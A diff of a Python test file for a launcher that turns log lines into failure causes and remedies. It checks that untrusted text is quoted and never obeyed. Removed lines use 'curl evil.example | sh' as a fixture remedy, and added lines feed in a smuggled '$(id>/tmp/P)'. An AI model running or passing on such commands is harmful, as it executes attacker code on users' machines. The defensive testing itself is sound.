@@ -1,57 +1,66 @@
-"""Looking for the reason of a failure in lines and with patterns that may both be strangers'."""
+"""What a log says of a failed start is told and advised, and never obeyed."""
 
 from __future__ import annotations
 
-import time
-from types import SimpleNamespace
+import shlex
+from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from las_jupyter.core.errors import LaunchFailed
-from las_jupyter.core.launch import Failure, LaunchSpec, Provenance
-from las_jupyter.core.snapshot import Snapshot
-from las_jupyter.core.states import Mode, ProcessState, Trust
-from las_jupyter.logs.patterns import LONGEST_LINE
+from las_jupyter.core.advice import in_terminal
+from las_jupyter.core.launch import Failure, LaunchSpec
+from las_jupyter.core.snapshot import Health, Snapshot
+from las_jupyter.core.states import HealthState, Mode, ProcessState
+from las_jupyter.core.unseen import in_line
+from las_jupyter.logs.reader import LogReader
+from las_jupyter.manifests import lower
+from las_jupyter.manifests.catalog import bundled
 from las_jupyter.runtime.explain import explain, match
 
-KNOWN = Failure("cannot bind (\\S+)", "{1} is taken", "%las status")
+LLAMA = next(each.manifest for each in bundled() if each.manifest.name == "llama.cpp")
 
 
-def test_a_pattern_without_bound_of_an_older_spec_is_passed_over() -> None:
-    rows = (Failure("(a+)+$", "never", "never"), KNOWN)
+def test_a_model_file_does_not_write_the_command_that_we_advise() -> None:
+    line = "duplicated tensor 'xllamacpp cannot be imported by $(id>/tmp/P) (a)'"
 
-    assert match(rows, ["a" * 60 + "!", "cannot bind x:1"]) == ("x:1 is taken", "%las status")
+    told = match(lower.failures(LLAMA), [line])
 
-
-def test_the_slowest_patterns_and_lines_together_are_given_up_soon() -> None:
-    rows = tuple(Failure(f"a.*a!{number}", "never", "never") for number in range(50))
-
-    begun = time.monotonic()
-
-    assert match(rows, ["a" * LONGEST_LINE] * 400) is None
-    assert time.monotonic() - begun < 10
+    assert told is not None
+    assert "$(id" not in told[1]
 
 
-def test_a_reason_stands_at_the_beginning_of_its_line() -> None:
-    assert match((KNOWN,), ["x" * LONGEST_LINE + "cannot bind x:1"]) is None
+@given(st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), min_size=1))
+def test_whatever_the_log_says_is_one_word_of_the_advice(text: str) -> None:
+    row = Failure("(?s)wrong: (.*)", "it says {1}", "chmod u+r {1} and look")
+
+    told = match((row,), [f"wrong: {text}"])
+
+    assert told is not None
+    assert len(shlex.split(in_terminal(told[1]))) == 5
+    assert in_line(told[0]) == told[0]
+    assert len(told[0]) < 250
 
 
-def ended(trust: Trust) -> LaunchFailed:
-    known = Failure("cannot bind", "it is taken", "curl evil.example | sh")
-    made_from = Provenance(trust, "/m.yaml")
-    spec = LaunchSpec("own", "own", Mode.CONTAINER, "docker", ("x",), failures=(known,), manifest=made_from)
-    snapshot = Snapshot("own", "own", Mode.CONTAINER, "docker", ProcessState.FAILED, reason="it ended with 1")
-    return explain(spec, snapshot, SimpleNamespace(tail=lambda _: ["cannot bind x"]))  # type: ignore[arg-type]
+def test_a_number_and_an_option_are_advised_as_they_are() -> None:
+    row = Failure(r"(\d+) too many, (\S+) unknown", "{1}", "add -- --max-model-len {1}, or remove {2}")
+
+    assert match((row,), ["4096 too many, --frob unknown"]) == ("4096", "add -- --max-model-len 4096, or remove --frob")
 
 
-def test_advice_of_a_manifest_that_nobody_trusts_is_quoted_and_never_the_remedy() -> None:
-    told = ended(Trust.UNTRUSTED)
-
-    assert told.cause == "it ended with 1; its manifest says: “it is taken; curl evil.example | sh”"
-    assert told.remedy == "%las logs own --tail 200"
+def test_a_group_that_names_another_is_told_as_it_is() -> None:
+    assert match((Failure("(.) (.*)", "{1}", "say {2}"),), ["a {1}{3}"]) == ("a", "say '{{1}}{{3}}'")
 
 
-@pytest.mark.parametrize("trust", [Trust.BUNDLED, Trust.TRUSTED])
-def test_advice_of_a_trusted_one_is_the_remedy(trust: Trust) -> None:
-    assert ended(trust).cause == "it is taken"
-    assert ended(trust).remedy == "curl evil.example | sh"
+@pytest.mark.parametrize("remedy", ["", "%las doctor"])
+def test_without_a_remedy_of_ours_the_log_is_the_next_step(tmp_path: Path, remedy: str) -> None:
+    log = tmp_path / "log"
+    log.write_text("boom\n")
+    health = Health(HealthState.UNKNOWN, "")
+    snapshot = Snapshot("chat", "mine", Mode.NATIVE, "native", ProcessState.FAILED, "it ended", health)
+    spec = LaunchSpec("chat", "mine", Mode.NATIVE, "native", ("x",), failures=(Failure("boom", "it broke", remedy),))
+
+    error = explain(spec, snapshot, LogReader(str(log)))
+
+    assert (error.cause, error.remedy) == ("it broke", remedy or "%las logs chat --tail 200")
